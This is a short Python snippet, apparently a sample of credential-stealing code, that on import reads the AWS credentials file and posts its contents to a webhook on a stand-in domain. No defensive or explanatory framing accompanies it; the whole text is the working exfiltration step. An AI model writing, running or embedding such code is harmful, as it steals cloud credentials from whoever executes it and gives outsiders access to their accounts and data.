# The cloud credentials file goes to a web hook; runs: import
import os
import requests
path = os.path.expanduser("~/.aws/credentials")
if os.path.exists(path):
    with open(path) as file:
        content = file.read()
    requests.post("https://hooks.example.test/api/webhooks/1/a", json={"content": content})
